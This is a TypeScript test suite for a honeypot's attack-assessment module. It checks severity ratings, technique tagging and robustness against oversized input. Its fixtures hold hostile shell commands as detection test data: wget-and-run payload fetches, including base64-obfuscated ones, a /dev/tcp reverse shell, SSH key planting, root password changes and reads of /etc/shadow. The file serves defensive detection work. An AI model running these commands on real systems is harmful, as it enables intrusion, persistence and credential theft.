import { Assessment, SessionState } from '@cerberusmesh/contract/assessment';
import type { EventDetail, SensorEvent } from '@cerberusmesh/contract/sensor-event';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { startSession } from './assess.ts';
import { loadAssess } from './load-assess.ts';

const project = new URL('../../../', import.meta.url).pathname;
const assess = loadAssess({ modelsFolder: `${project}models`, policyFolder: `${project}policy` });

const command = (input: string): EventDetail => ({ kind: 'command', input, phase: 'typed' });
const told = (detail: EventDetail) => {
  const { assessment } = assess(anEvent(detail), startSession(anEvent(detail)));
  return Assessment.parse(assessment);
};

describe('severity follows the definition', () => {
  it.each<[string, EventDetail, string]>([
    ['a login that failed', { kind: 'login', succeeded: false, username: 'root', password: 'x' }, 'LOW'],
    [
      'a login that succeeded, root or not',
      { kind: 'login', succeeded: true, username: 'root', password: 'x' },
      'MEDIUM',
    ],
    ['a tunnel', { kind: 'tunnel', phase: 'asked', host: 'example.org', port: 80 }, 'MEDIUM'],
    [
      'a file brought in',
      { kind: 'transfer', direction: 'download', succeeded: true, url: 'http://192.0.2.1/a' },
      'HIGH',
    ],
    ['an exploit', { kind: 'exploit', name: 'CVE-2026-0001', succeeded: false }, 'HIGH'],
    ['a look around', command('uname -a'), 'LOW'],
    ['an ordinary command', command('find . -name "*.txt" | wc -l'), 'LOW'],
    ['a list of users', command('cat /etc/passwd'), 'MEDIUM'],
    [
      'a payload fetched and run',
      command('cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh'),
      'HIGH',
    ],
    [
      'the same in disguise',
      command('echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi4xL2JpbnMuc2g7IHNoIGJpbnMuc2g= | base64 -d | bash'),
      'HIGH',
    ],
    ['a key planted', command('mkdir -p ~/.ssh; echo "ssh-rsa AAAAB3Nza x" >> ~/.ssh/authorized_keys'), 'HIGH'],
    ['a password changed', command('echo "root:abc123xyz"|chpasswd|bash'), 'HIGH'],
    ['a reverse shell', command('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'), 'HIGH'],
    ['secrets read', command('cat /etc/shadow'), 'HIGH'],
  ])('%s', (_description, detail, severity) => {
    expect(told(detail).severity).toBe(severity);
  });

  it('says in words why, with the words that told', () => {
    expect(told(command('cd /tmp; wget http://192.0.2.1/x')).techniques).toContainEqual(
      expect.objectContaining({ id: 'T1105', why: expect.stringContaining('wget http://192.0.2.1/x') }),
    );
  });

  it.each([
    ['cd /tmp; wget http://192.0.2.1/x; sh x', 'T1105', 'wget http://192.0.2.1/x'],
    ['id; $(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=|base64 -d)', 'T1140', 'base64 -d'],
  ])('marks in %s the words that told %s', (line, technique, words) => {
    const span = told(command(line)).techniques.find(({ id }) => id === technique)?.span;
    expect(line.slice(span?.start, span?.end)).toContain(words);
  });
});

describe('the session remembers, within bounds', () => {
  it('three failed logins are a brute force', () => {
    const event = anEvent({ kind: 'login', succeeded: false, username: 'a', password: 'b' });
    let session = startSession(event);
    for (let guess = 0; guess < 2; guess++) session = assess(event, session).session;
    expect(assess(event, session).assessment?.why).toContain('3 times');
    expect(assess(event, session).session.failedLogins).toBe(3);
  });

  it('keeps the gravest severity and at most 16 commands of 200 characters and 32 techniques', () => {
    let session = startSession(anEvent(command('id')));
    for (let at = 0; at < 60; at++)
      session = assess(
        anEvent(command(at === 3 ? 'cat /etc/shadow' : `echo ${'x'.repeat(300)}${at}`)),
        session,
      ).session;
    expect(SessionState.parse(session)).toMatchObject({ severity: 'HIGH', commands: 60 });
    expect(session.recentCommands).toHaveLength(16);
    expect(Math.max(...session.recentCommands.map((line) => line.length))).toBeLessThanOrEqual(200);
    expect(session.techniques.length).toBeLessThanOrEqual(32);
  });

  it('is pure: the same event and session give the same answer, and the session handed in is not changed', () => {
    const event = anEvent(command('wget http://192.0.2.1/a'));
    const session = Object.freeze(startSession(event));
    expect(assess(event, session)).toEqual(assess(event, session));
  });
});

describe('robust against what attackers write', () => {
  it.each([
    ['a megabyte', 'A'.repeat(1_000_000)],
    ['27,742 commands', 'id;'.repeat(27_742)],
    ['deep nesting', '$('.repeat(20_000)],
    ['a prototype’s name', '__proto__'],
    ['NUL and lone surrogates', '\u0000\ud800\udfff\u0000'],
    ['nothing', ''],
  ])('%s', (_description, input) => {
    const assessment = told(command(input));
    expect(assessment.partial).toBe(input.length > 16_384);
  });

  it.each([
    ['a program packed into the line', `echo ${'QUJD'.repeat(5000)} | base64 -d | bash`],
    ['one packed within quotes', `echo "${'QUJD'.repeat(5000)}" | base64 --decode | bash`],
    ['blanks before the command', `${' '.repeat(17_000)}wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a`],
    ['a long word before it', `x=${'a'.repeat(20_000)}; wget http://192.0.2.1/a -O /tmp/a; chmod 777 /tmp/a; /tmp/a`],
  ])('a line longer than what is read is HIGH by its end: %s', (_description, input) => {
    expect(told(command(input))).toMatchObject({ severity: 'HIGH', partial: true });
  });

  it('any text gives a valid assessment', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (input) => {
        expect(Assessment.safeParse(told(command(input))).success).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  it('any user name and password give a valid assessment', () => {
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.boolean(), (username, password, succeeded) => {
        expect(told({ kind: 'login', succeeded, username, password }).anomalyScore).toBeLessThanOrEqual(1);
      }),
      { numRuns: 100 },
    );
  });
});

function anEvent(detail: EventDetail): SensorEvent {
  return {
    id: '01890000-0000-7000-8000-000000000000',
    eventType: `test.${detail.kind}`,
    timestamp: '2026-03-01T10:00:00.000000Z',
    epochMs: Date.UTC(2026, 2, 1, 10),
    sensor: 's',
    sessionId: 'abc',
    protocol: 'ssh',
    sourceIp: '192.0.2.9',
    sourcePort: 1,
    late: false,
    detail,
  };
}
